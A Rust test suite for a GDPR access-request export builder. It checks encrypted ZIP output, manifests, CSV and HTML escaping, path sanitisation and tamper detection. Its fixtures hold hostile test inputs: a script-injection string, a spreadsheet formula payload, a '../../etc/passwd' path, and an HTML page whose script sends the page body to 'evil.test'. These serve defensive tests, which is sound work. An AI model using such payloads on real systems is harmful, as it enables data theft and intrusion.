use std::collections::BTreeSet;
use std::io::{Cursor, Read};

use serde_json::json;
use time::macros::{date, datetime};

use super::spool::tests::TestDir;
use super::*;
use crate::config::Authority;
use crate::connectors::{Art15, CollectionInfo, Recipient, Record, RecordSink};
use crate::crypto::sha256_hex;

fn rec(v: Value) -> Record {
    match v {
        Value::Object(m) => m,
        _ => panic!("not an object"),
    }
}

fn strings(names: &[&str]) -> Vec<String> {
    names.iter().map(|s| s.to_string()).collect()
}

fn collection(name: &str, label: Text, purpose: &str) -> CollectionInfo {
    CollectionInfo {
        rules: crate::plans::Rules::default(),
        name: name.into(),
        label,
        art15: Art15 {
            purposes: vec![Text::Localized { en: purpose.into(), fr: Some(format!("{purpose} (fr)")) }],
            legal_basis: Some(Text::Plain("Contract (Art. 6(1)(b))".into())),
            categories: vec![Text::Plain("Identity".into()), Text::Plain("Contact details".into())],
            recipients: vec![Recipient {
                name: Text::Plain("MailCo Inc.".into()),
                country: Some("US".into()),
                third_country: true,
                safeguards: Some(Text::Plain("Standard contractual clauses".into())),
                notify: true,
            }],
            retention: Some(Text::Plain("3 years after the last contact".into())),
            origin: None,
            automated_decisions: None,
            ..Art15::default()
        },
    }
}

fn source(name: &str, collections: Vec<CollectionInfo>) -> SourceInfo {
    SourceInfo { name: name.into(), label: Text::Plain(format!("{name} system")), kind: "sql", collections }
}

fn controller() -> ControllerInfo {
    ControllerInfo {
        name: "Acme SAS".into(),
        address: Some("1 rue de la Paix, 75002 Paris".into()),
        contact_email: "privacy@acme.example".into(),
        dpo_email: Some("dpo@acme.example".into()),
        country: "FR".into(),
        timezone: "Europe/Paris".into(),
        financial_year_end: crate::plans::erasure::YearEnd::DECEMBER_31,
        authority: Authority {
            name: Text::Plain("CNIL".into()),
            address: "3 place de Fontenoy, 75007 Paris".into(),
            url: "https://www.cnil.fr".into(),
        },
    }
}

fn input(locale: Locale, sources: Vec<ExportSource>) -> ExportInput {
    ExportInput {
        reference: "DSR-2026-000123".into(),
        kind: RequestKind::Access,
        locale,
        received_at: datetime!(2026-03-02 09:15 +01:00),
        generated_at: datetime!(2026-03-03 10:00 UTC),
        due_date: date!(2026 - 04 - 02),
        controller: controller(),
        sources,
    }
}

fn spool(path: &Path, key: &SecretKey, collections: &[(&str, &[&str], Vec<Record>)]) {
    let mut w = SpoolWriter::create(path, key).unwrap();
    for (name, fields, records) in collections {
        w.begin_collection(name, &strings(fields)).unwrap();
        for r in records {
            w.record(r.clone()).unwrap();
        }
    }
    w.finish().unwrap();
}

struct Opened {
    files: Vec<(String, Vec<u8>)>,
    raw: Vec<u8>,
}

impl Opened {
    fn get(&self, name: &str) -> &[u8] {
        &self.files.iter().find(|(n, _)| n == name).unwrap_or_else(|| panic!("{name} missing")).1
    }
    fn text(&self, name: &str) -> String {
        String::from_utf8(self.get(name).to_vec()).unwrap()
    }
    fn json(&self, name: &str) -> Value {
        serde_json::from_slice(self.get(name)).unwrap()
    }
    fn names(&self) -> Vec<&str> {
        self.files.iter().map(|(n, _)| n.as_str()).collect()
    }
}

fn open(path: &Path, key: &SecretKey) -> Opened {
    let mut raw = Vec::new();
    open_export(path, key).unwrap().read_to_end(&mut raw).unwrap();
    let mut archive = zip::ZipArchive::new(Cursor::new(raw.clone())).unwrap();
    let mut files = Vec::new();
    for i in 0..archive.len() {
        let mut f = archive.by_index(i).unwrap();
        let mut data = Vec::new();
        f.read_to_end(&mut data).unwrap();
        files.push((f.name().unwrap().into_owned(), data));
    }
    Opened { files, raw }
}

/// Every file but the manifest is listed in it with its exact size and SHA-256, and nothing else.
fn assert_manifest_matches(z: &Opened) {
    let manifest = z.json("manifest.json");
    let listed = manifest["files"].as_array().unwrap();
    let listed_names: BTreeSet<&str> = listed.iter().map(|f| f["path"].as_str().unwrap()).collect();
    let actual: BTreeSet<&str> = z.names().into_iter().filter(|n| *n != "manifest.json").collect();
    assert_eq!(listed_names, actual);
    for f in listed {
        let data = z.get(f["path"].as_str().unwrap());
        assert_eq!(f["size"].as_u64().unwrap(), data.len() as u64, "{f}");
        assert_eq!(f["sha256"].as_str().unwrap(), sha256_hex(data), "{f}");
    }
    assert_eq!(z.names().last(), Some(&"manifest.json"));
}

fn no_leftovers(dir: &TestDir) -> Vec<String> {
    std::fs::read_dir(&dir.0)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".tmp"))
        .collect()
}

#[test]
fn builds_a_complete_verifiable_export() {
    let dir = TestDir::new();
    let key = SecretKey::generate();
    let crm = dir.join("crm.spool");
    let billing = dir.join("billing.spool");
    spool(
        &crm,
        &key,
        &[
            (
                "contacts",
                &["id", "name", "note", "balance", "tags"],
                vec![
                    rec(
                        json!({"id": 1, "name": "<script>alert('x')</script>", "note": "=HYPERLINK(\"http://evil\")", "balance": "-12.50", "tags": ["a", "b"]}),
                    ),
                    rec(json!({"id": 2, "name": "Zoé, \"Z\"", "note": "+1+1", "balance": null, "tags": {"k": true}})),
                ],
            ),
            ("empty_one", &["x"], vec![]),
            ("orders", &["ref", "total"], vec![rec(json!({"ref": "A-1", "total": -3.5}))]),
        ],
    );
    spool(&billing, &key, &[("invoices", &["no"], vec![rec(json!({"no": "F-1"})), rec(json!({"no": "F-2"}))])]);
    let input = input(
        Locale::En,
        vec![
            ExportSource {
                info: source(
                    "crm",
                    vec![
                        collection("contacts", Text::Plain("Contacts".into()), "Customer relationship"),
                        collection("orders", Text::Plain("Orders".into()), "Order fulfilment"),
                        collection("empty_one", Text::Plain("Empty".into()), "Nothing"),
                    ],
                ),
                spool: Some(crm),
            },
            ExportSource {
                info: source("newsletter", vec![collection("subscribers", Text::default(), "Newsletter")]),
                spool: None,
            },
            ExportSource {
                info: source("billing", vec![collection("invoices", Text::Plain("Invoices".into()), "Billing")]),
                spool: Some(billing),
            },
        ],
    );
    let out = dir.join("out.zip.enc");
    let summary = build_export(&input, &key, &out).unwrap();
    assert!(no_leftovers(&dir).is_empty());

    let z = open(&out, &key);
    assert_eq!(
        z.names(),
        [
            "data/crm/contacts.json",
            "data/crm/orders.json",
            "data/crm/contacts.csv",
            "data/crm/orders.csv",
            "data/billing/invoices.json",
            "data/billing/invoices.csv",
            "information.json",
            "index.html",
            "manifest.json",
        ]
    );
    assert_manifest_matches(&z);

    // The summary describes the plaintext ZIP the person downloads.
    assert_eq!(summary.zip_bytes, z.raw.len() as u64);
    assert_eq!(summary.sha256, sha256_hex(&z.raw));
    assert_eq!(summary.files, 9);
    assert_eq!(summary.total_records, 5);
    assert_eq!(
        summary.sources,
        vec![
            SourceCount {
                name: "crm".into(),
                collections: vec![
                    CollectionCount { name: "contacts".into(), records: 2 },
                    CollectionCount { name: "orders".into(), records: 1 }
                ]
            },
            SourceCount { name: "newsletter".into(), collections: vec![] },
            SourceCount {
                name: "billing".into(),
                collections: vec![CollectionCount { name: "invoices".into(), records: 2 }]
            },
        ]
    );

    // JSON: exactly the records, field order preserved.
    let contacts = z.json("data/crm/contacts.json");
    assert_eq!(contacts[0]["name"], "<script>alert('x')</script>");
    assert_eq!(contacts[1]["tags"], json!({"k": true}));
    assert_eq!(contacts[0].as_object().unwrap().keys().collect::<Vec<_>>(), ["id", "name", "note", "balance", "tags"]);

    // CSV: header, text values, formulas neutralised, numbers kept.
    let mut csv = csv::Reader::from_reader(z.get("data/crm/contacts.csv"));
    assert_eq!(csv.headers().unwrap(), vec!["id", "name", "note", "balance", "tags"]);
    let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
    assert_eq!(
        rows[0],
        vec!["1", "<script>alert('x')</script>", "'=HYPERLINK(\"http://evil\")", "-12.50", r#"["a","b"]"#]
    );
    assert_eq!(rows[1], vec!["2", "Zoé, \"Z\"", "'+1+1", "", r#"{"k":true}"#]);
    assert!(z.text("data/crm/orders.csv").contains("A-1,-3.5"));

    // index.html: self-contained, everything escaped.
    let page = z.text("index.html");
    if let Some(dump) = std::env::var_os("DOSSIER_DUMP_EXPORT_HTML") {
        std::fs::write(dump, &page).unwrap();
    }
    assert!(
        page.contains("&#60;script&#62;alert(&#39;x&#39;)&#60;/script&#62;") || page.contains("&lt;script&gt;"),
        "{page}"
    );
    assert!(!page.contains("<script"));
    assert!(!page.contains("src=\"http") && !page.contains("<link"));
    assert!(page.contains("DSR-2026-000123"));
    assert!(page.contains("Customer relationship"));
    assert!(page.contains("Standard contractual clauses"));
    assert!(page.contains("CNIL") && page.contains("https://www.cnil.fr"));
    assert!(page.contains("2 March 2026 at 09:15 (UTC+01:00)"));
    assert!(page.contains("2 April 2026"));
    assert!(!page.contains(RECORDS_MARKER));
    assert!(!page.contains("No personal data"));
    assert!(page.contains("Complete list (2)"));
    assert!(page.find("Contacts").unwrap() < page.find("Invoices").unwrap());

    // information.json: Art. 15 information per collection, rights, authority.
    let info = z.json("information.json");
    assert_eq!(info["reference"], "DSR-2026-000123");
    let crm = &info["sources"][0];
    assert_eq!(crm["collections"][0]["records"], 2);
    assert_eq!(crm["collections"][0]["purposes"], json!(["Customer relationship"]));
    assert_eq!(crm["collections"][0]["recipients"][0]["third_country"], true);
    assert_eq!(crm["collections"][2]["records"], 0);
    assert_eq!(info["sources"][1]["collections"][0]["records"], 0);
    let rights: Vec<&str> =
        info["rights"]["rights"].as_array().unwrap().iter().map(|r| r["right"].as_str().unwrap()).collect();
    assert_eq!(rights, ["rectification", "erasure", "restriction", "objection", "portability"]);
    assert_eq!(info["complaint"]["authority"]["name"], "CNIL");
    assert_eq!(info["controller"]["dpo_email"], "dpo@acme.example");

    let manifest = z.json("manifest.json");
    assert_eq!(manifest["generated_at"], "2026-03-03T10:00:00Z");
    assert_eq!(manifest["total_records"], 5);
    assert_eq!(manifest["sources"][0]["collections"][1]["name"], "orders");
}

#[test]
fn no_data_export_says_so_and_still_informs() {
    let dir = TestDir::new();
    let key = SecretKey::generate();
    let input = input(
        Locale::Fr,
        vec![ExportSource {
            info: source("crm", vec![collection("contacts", Text::Plain("Contacts".into()), "Relation client")]),
            spool: None,
        }],
    );
    let out = dir.join("out.zip.enc");
    let summary = build_export(&input, &key, &out).unwrap();
    assert_eq!(summary.total_records, 0);
    assert_eq!(summary.files, 3);
    let z = open(&out, &key);
    assert_eq!(z.names(), ["information.json", "index.html", "manifest.json"]);
    assert_manifest_matches(&z);
    let page = z.text("index.html");
    assert!(page.contains("<html lang=\"fr\">"));
    assert!(page.contains("Aucune donnée personnelle vous concernant n’a été trouvée"));
    assert!(page.contains("Relation client (fr)"), "the Art. 15 information is still given");
    assert!(page.contains("2\u{a0}avril 2026") || page.contains("2 avril 2026"));
    assert!(page.contains("CNIL"));
    let info = z.json("information.json");
    assert_eq!(info["language"], "fr");
    assert_eq!(info["sources"][0]["collections"][0]["purposes"], json!(["Relation client (fr)"]));
}

#[test]
fn long_collections_are_cut_in_html_only() {
    let dir = TestDir::new();
    let key = SecretKey::generate();
    let path = dir.join("s.spool");
    let many: Vec<Record> = (0..1005).map(|i| rec(json!({"n": i}))).collect();
    spool(&path, &key, &[("rows", &["n"], many)]);
    let input = input(
        Locale::En,
        vec![ExportSource { info: source("src", vec![collection("rows", Text::default(), "P")]), spool: Some(path) }],
    );
    let out = dir.join("e");
    build_export(&input, &key, &out).unwrap();
    let z = open(&out, &key);
    let page = z.text("index.html");
    assert_eq!(page.matches("<tr><td>").count(), 1000 + 1, "1,000 data rows plus the summary row");
    assert!(page.contains("Only the first 1,000 of 1,005 records are shown here"));
    assert_eq!(z.json("data/src/rows.json").as_array().unwrap().len(), 1005);
    assert_eq!(z.text("data/src/rows.csv").lines().count(), 1006);
}

#[test]
fn names_from_configuration_cannot_escape_the_data_folder() {
    let dir = TestDir::new();
    let key = SecretKey::generate();
    let path = dir.join("s.spool");
    spool(
        &path,
        &key,
        &[("../../etc/passwd", &["a"], vec![rec(json!({"a": 1}))]), ("..", &["a"], vec![rec(json!({"a": 2}))])],
    );
    let input = input(Locale::En, vec![ExportSource { info: source("..\\crm", vec![]), spool: Some(path) }]);
    let out = dir.join("e");
    build_export(&input, &key, &out).unwrap();
    let z = open(&out, &key);
    for name in z.names() {
        assert!(!name.split('/').any(|c| c == ".." || c.is_empty()), "{name}");
        assert!(!name.contains('\\'), "{name}");
    }
    assert!(z.names().contains(&"data/_crm/_.._etc_passwd.json"), "{:?}", z.names());
    assert!(z.names().contains(&"data/_crm/_.json"), "{:?}", z.names());
    assert_manifest_matches(&z);
}

#[test]
fn tampering_and_wrong_keys_are_detected() {
    let dir = TestDir::new();
    let key = SecretKey::generate();
    let out = dir.join("e");
    build_export(&input(Locale::En, vec![]), &key, &out).unwrap();
    let mut bytes = std::fs::read(&out).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x40;
    std::fs::write(&out, &bytes).unwrap();
    let err = open_export(&out, &key).unwrap().read_to_end(&mut Vec::new()).unwrap_err();
    assert_eq!(err.kind(), io::ErrorKind::InvalidData);

    bytes[mid] ^= 0x40;
    std::fs::write(&out, &bytes).unwrap();
    let z = open(&out, &key);
    assert!(z.text("index.html").contains("No personal data about you was found"));
    let err = open_export(&out, &SecretKey::generate()).unwrap().read_to_end(&mut Vec::new()).unwrap_err();
    assert_eq!(err.kind(), io::ErrorKind::InvalidData);
}

#[test]
fn a_failed_build_leaves_nothing_behind() {
    let dir = TestDir::new();
    let key = SecretKey::generate();
    let crashed = dir.join("crashed.spool");
    {
        let mut w = SpoolWriter::create(&crashed, &key).unwrap();
        w.begin_collection("c", &strings(&["a"])).unwrap();
        w.record(rec(json!({"a": 1}))).unwrap();
        // never finished: the collection job died
    }
    let out = dir.join("e");
    let sources = vec![ExportSource { info: source("crm", vec![]), spool: Some(crashed) }];
    assert!(build_export(&input(Locale::En, sources), &key, &out).is_err());
    assert!(!out.exists());
    assert!(no_leftovers(&dir).is_empty());

    let missing = vec![ExportSource { info: source("crm", vec![]), spool: Some(dir.join("nope")) }];
    assert!(build_export(&input(Locale::En, missing), &key, &out).is_err());
    assert!(!out.exists());
    assert!(no_leftovers(&dir).is_empty());
}

/// Writes `bytes` encrypted as an upload would be, and a manual source's spool listing it.
fn manual_upload(dir: &TestDir, key: &SecretKey, name: &str, bytes: &[u8], recorded_sha: &str) -> ExportSource {
    let stored = dir.join(&format!("{}.enc", crate::crypto::new_id()));
    let mut w = EncryptingWriter::new(File::create(&stored).unwrap(), key).unwrap();
    w.write_all(bytes).unwrap();
    w.finish().unwrap();
    let spool_path = dir.join("archives.spool");
    let record = rec(json!({
        "name": name, "size": bytes.len(), "sha256": recorded_sha, "stored_at": stored.to_string_lossy(),
    }));
    spool(&spool_path, key, &[("files", &["name", "size", "sha256", "stored_at"], vec![record])]);
    let mut info = source("archives", vec![collection("paper_files", Text::Plain("Paper files".into()), "Contracts")]);
    info.kind = "manual";
    ExportSource { info, spool: Some(spool_path) }
}

#[test]
fn a_manual_sources_uploads_are_exported_byte_for_byte() {
    let dir = TestDir::new();
    let key = SecretKey::generate();
    let bytes: Vec<u8> = (0..=255u8).cycle().take(200_000).collect();
    let source = manual_upload(&dir, &key, "scan.pdf", &bytes, &sha256_hex(&bytes));
    let out = dir.join("export.zip.enc");
    let summary = build_export(&input(Locale::Fr, vec![source]), &key, &out).unwrap();
    assert_eq!(summary.total_records, 1);
    let z = open(&out, &key);
    assert_eq!(z.get("files/archives/scan.pdf"), bytes.as_slice());
    assert_manifest_matches(&z);
    let manifest = z.json("manifest.json");
    assert_eq!(manifest["sources"][0]["attachments"][0]["sha256"], sha256_hex(&bytes));
    let info = z.json("information.json");
    assert_eq!(info["sources"][0]["files"][0]["path"], "files/archives/scan.pdf");
    let index = z.text("index.html");
    assert!(index.contains("Fichiers trouvés par nos équipes") && index.contains("scan.pdf"), "{index}");
    // The source's Art. 15 information is given with what staff found.
    assert!(index.contains("Contracts (fr)"), "{index}");
}

#[test]
fn an_upload_changed_on_disk_fails_the_export() {
    let dir = TestDir::new();
    let key = SecretKey::generate();
    let source = manual_upload(&dir, &key, "scan.pdf", b"what staff uploaded", &sha256_hex(b"something else"));
    let out = dir.join("export.zip.enc");
    let err = build_export(&input(Locale::En, vec![source]), &key, &out).unwrap_err();
    assert!(format!("{err:#}").contains("no longer matches the checksum"), "{err:#}");
    assert!(!format!("{err:#}").contains("scan"), "the file's name is personal data: {err:#}");
    assert!(!out.exists(), "no export is left behind");
}

/// Export errors reach job records, logs and staff pages: they name an uploaded file by its
/// stored id and its source, never by its name or path.
#[test]
fn a_missing_upload_is_named_by_its_id_not_its_name() {
    let dir = TestDir::new();
    let key = SecretKey::generate();
    let source = manual_upload(&dir, &key, "Contrat de Mme Martin.pdf", b"x", &sha256_hex(b"x"));
    let mut reader = crate::export::spool::SpoolReader::open(source.spool.as_ref().unwrap(), &key).unwrap();
    let stored = loop {
        match reader.next_event().unwrap() {
            Some(crate::export::spool::SpoolEvent::Record(r)) => break r["stored_at"].as_str().unwrap().to_owned(),
            Some(_) => continue,
            None => panic!("no record"),
        }
    };
    std::fs::remove_file(&stored).unwrap();
    let id = std::path::Path::new(&stored).file_stem().unwrap().to_str().unwrap().to_owned();
    let err = build_export(&input(Locale::En, vec![source]), &key, &dir.join("export.zip.enc")).unwrap_err();
    let text = format!("{err:#}");
    assert!(text.contains(&format!("the uploaded file {id} is missing")), "{text}");
    assert!(text.contains("source archives"), "{text}");
    assert!(!text.contains("Martin") && !text.contains(&stored), "{text}");
}

/// Staff may upload what a person sent them, an `.html` page or an `.svg` image with a script
/// in it: the report links such files as downloads, never to be opened inline, and the report
/// itself runs no script whatever it links to (its own Content-Security-Policy).
#[test]
fn uploaded_pages_are_linked_as_downloads_under_a_strict_policy() {
    let dir = TestDir::new();
    let key = SecretKey::generate();
    let page = b"<html><script>fetch('https://evil.test/?'+document.body.innerHTML)</script></html>";
    for name in ["lettre.html", "logo.svg"] {
        let source = manual_upload(&dir, &key, name, page, &sha256_hex(page));
        let out = dir.join(&format!("{name}.zip.enc"));
        build_export(&input(Locale::En, vec![source]), &key, &out).unwrap();
        let z = open(&out, &key);
        // Opened from the unzipped folder, it would run: it is stored to open as text.
        assert_eq!(z.get(&format!("files/archives/{name}.txt")), page.as_slice(), "exported byte for byte");
        let index = z.text("index.html");
        let head = index.split("</head>").next().unwrap();
        let csp = head
            .split("http-equiv=\"Content-Security-Policy\" content=\"")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .unwrap_or_else(|| panic!("a CSP meta in the head: {head}"));
        let directives: Vec<&str> = csp.split(';').map(str::trim).collect();
        assert!(directives.contains(&"default-src 'none'"), "{csp}");
        assert!(!csp.contains("script-src") && !csp.contains("'unsafe-eval'"), "no script may run: {csp}");
        // The policy comes before anything it governs.
        assert!(head.find("Content-Security-Policy").unwrap() < head.find("<style").unwrap(), "{head}");
        assert!(!index.contains("<script"), "{index}");
        let link = index
            .split("<a ")
            .find(|a| a.contains(&format!("href=\"files/archives/{name}.txt\"")))
            .unwrap_or_else(|| panic!("a link to {name}: {index}"));
        let tag = link.split('>').next().unwrap();
        assert!(tag.split_whitespace().any(|attr| attr == "download" || attr.starts_with("download=")), "{tag}");
    }
}
